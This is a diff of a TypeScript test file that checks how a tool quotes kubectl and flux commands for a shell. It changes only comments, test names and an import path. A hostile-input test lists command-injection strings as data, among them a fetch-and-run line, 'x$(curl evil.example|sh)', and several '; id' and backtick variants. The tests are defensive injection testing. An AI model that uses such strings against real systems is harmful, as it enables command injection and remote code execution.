@@ -1,11 +1,13 @@
 import { execFileSync } from "node:child_process";
 import { describe, expect, it } from "vitest";
 import { commandsFor, offeredCommand, problems, shellCommand, type FlowNode } from "../src/index.js";
-import { commandLine } from "../src/shell.js";
+import { commandLine } from "../src/words/shell.js";
 import { edge, graphOf, node } from "./flow.js";
 import { Random } from "./random.js";
 
-/** What a real shell gives to each program that lines run, with nothing of its own in reach: a program that no line should run fails loudly. */
+/**
+ * The arguments that a real shell passes to each program that the lines run. No other program is in PATH, so a line that runs one fails.
+ */
 function argvOf(lines: readonly string[]): readonly (readonly string[])[] {
   const stub = (name: string): string => `${name}() { printf '%s\\0' ${name} "$@"; printf '\\n\\0'; }`;
   const script = [stub("kubectl"), stub("flux"), stub("show"), ...lines].join("\n");
@@ -45,7 +47,7 @@ describe("shellCommand", () => {
   ];
   it.each(unfit)("gives nothing for %s", (_, argv) => expect(shellCommand(argv)).toBeUndefined());
 
-  it("gives a shell exactly the arguments, whatever they are", () => {
+  it("makes a shell pass exactly the arguments", () => {
     const r = new Random(4);
     const pieces = ["a", "Z", "0", "-", "--", "_", ".", "/", ":", "=", " ", "'", "''", '"', "\\", "$", "$(x)", "`x`", "${IFS}", ";", "&", "|", "<", ">", "(", ")", "{a,b}", "[a]", "*", "?", "!", "!!", "~", "#", "%", "^", "@", ",", "+", "é", "日", "🚀", "\u00a0", "\n", "\t", "\u001b", "\u202e", "\u0085"];
     const unseen = /[\p{C}\p{Zl}\p{Zp}]/u;
@@ -68,7 +70,7 @@ describe("shellCommand", () => {
     expect(refused).toBeGreaterThan(500);
     expect(lines.length).toBeGreaterThan(500);
     expect(argvOf(lines)).toEqual(kept);
-    // And each line alone, as it is pasted.
+    // Each line alone, as a person pastes it.
     for (const args of kept.slice(0, 40)) {
       const line = shellCommand(["printf", "%s\\0", ...args]) as string;
       expect(execFileSync("/bin/sh", ["-c", line], { encoding: "utf8" }).split("\0").slice(0, -1)).toEqual(args);
@@ -90,7 +92,7 @@ describe("commands of a hostile flow", () => {
     "cilium; id #", "x$(curl evil.example|sh)", "`id`", "a; id ~", "a' ; id ; '", 'a" ; id ; "', "a\\", "$IFS", "a && id", "a | id", "a > /dev/full", "*", "~root", "a b", "!!", "it's",
   ];
   const unfit = ["a\nid\n", "a\u001b]0;x\u0007", "a\u009b2J", "a\u202eb", "--kubeconfig=/tmp/x", "-Axyz", "a\u2028id", "1025".repeat(257)];
-  /** As an adapter sends them; what is empty is data. */
+  /** Commands as an adapter sends them, with empty arguments. */
   const COMMANDS = [
     ["kubectl", "-n", "", "describe", "deployment", ""],
     ["kubectl", "-n", "", "get", "helmrelease", "", "-o", "jsonpath={.spec.dependsOn}"],
@@ -133,7 +135,7 @@ describe("commands of a hostile flow", () => {
     }
   });
 
-  it("never shows what is unfit for a shell", () => {
+  it("are never shown if a shell can't take them safely", () => {
     for (const text of unfit) for (const line of all(text)) expect(line).not.toContain(text);
   });
 });
